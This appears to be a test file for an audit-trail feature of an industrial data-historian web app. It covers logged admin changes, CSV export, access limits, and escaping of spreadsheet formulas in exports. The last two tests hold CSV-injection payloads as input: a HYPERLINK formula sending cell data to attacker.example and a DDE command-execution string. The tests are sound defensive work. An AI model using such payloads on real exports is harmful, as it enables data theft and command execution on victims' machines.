"""Configuration changes made in admin are recorded with before/after; administrators view and export the trail."""

import csv
import io

import pytest
from auditlog.models import LogEntry

from accounts.services.roles import Role
from audit.models import AuditAction
from audit.services.events import audit_record
from historian.models import ScanClass
from tests.factories import ScanClassFactory, UserFactory


@pytest.fixture
def administrator(db):
    return UserFactory(username="ada", role=Role.ADMINISTRATOR)


def test_an_admin_change_is_recorded_with_who_and_before_after(client, administrator):
    scan = ScanClassFactory(name="Fast", period_ms=1000)
    client.force_login(administrator)

    response = client.post(
        f"/admin/historian/scanclass/{scan.pk}/change/", {"name": "Fast", "period_ms": "500", "description": ""}
    )

    assert response.status_code == 302
    entry = LogEntry.objects.get_for_model(ScanClass).get(action=LogEntry.Action.UPDATE)
    assert entry.actor == administrator
    assert entry.changes_dict == {"period_ms": ["1000", "500"]}
    assert entry.object_repr == "Fast (500 ms)"


def test_administrators_export_the_events_the_filters_select_as_csv(client, administrator):
    audit_record(actor=administrator, action=AuditAction.PLC_WRITE, target="PLC 1 HR10", details={"value": 5})
    client.force_login(administrator)  # records a login too

    response = client.get("/admin/audit/auditevent/export.csv", {"action__exact": AuditAction.PLC_WRITE})

    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [(r["user"], r["action"], r["target"], r["details"]) for r in rows] == [
        ("ada", "plc_write", "PLC 1 HR10", '{"value": 5}')
    ]


def test_administrators_export_configuration_changes_as_csv(client, administrator):
    ScanClassFactory(name="Fast", period_ms=1000)
    client.force_login(administrator)

    response = client.get("/admin/auditlog/logentry/export.csv")

    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    # The administrator's own account and role were recorded too (tests/audit/test_auth_changes.py), and the roles
    # themselves when this database made them (accounts' migrations).
    assert [(r["action"], r["model"], r["object"]) for r in rows if r["model"] not in ("auth.user", "auth.group")] == [
        ("create", "historian.scanclass", "Fast (1000 ms)")
    ]


def test_the_audit_trail_is_read_only_in_admin_and_hidden_from_engineers(client, administrator):
    event = audit_record(actor=administrator, action=AuditAction.PLC_WRITE, target="x")
    client.force_login(administrator)
    page = client.get(f"/admin/audit/auditevent/{event.pk}/change/").content.decode()
    assert 'name="_save"' not in page
    assert client.post(f"/admin/audit/auditevent/{event.pk}/delete/").status_code == 403

    client.force_login(UserFactory(username="eve", role=Role.ENGINEER))
    assert client.get("/admin/audit/auditevent/export.csv").status_code == 302  # to the admin login


def test_a_failed_login_name_typed_as_a_formula_is_exported_as_text(client, administrator):
    hostile = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
    client.post("/login/", {"username": hostile, "password": "wrong-password"})
    client.force_login(administrator)

    response = client.get("/admin/audit/auditevent/export.csv", {"action__exact": AuditAction.LOGIN_FAILED})

    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [r["user"] for r in rows] == ["'" + hostile]  # a spreadsheet shows it, never runs it


def test_a_configuration_change_whose_text_is_a_formula_is_exported_as_text(client, administrator):
    ScanClass.objects.create(name="@SUM(1+1)*cmd|' /C calc'!A0", period_ms=1000)
    client.force_login(administrator)

    response = client.get("/admin/auditlog/logentry/export.csv")

    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    [row] = [r for r in rows if r["model"] == "historian.scanclass"]
    assert row["object"] == "'@SUM(1+1)*cmd|' /C calc'!A0 (1000 ms)"
    assert row["changes"].startswith("{")  # JSON, not a formula: left as it is
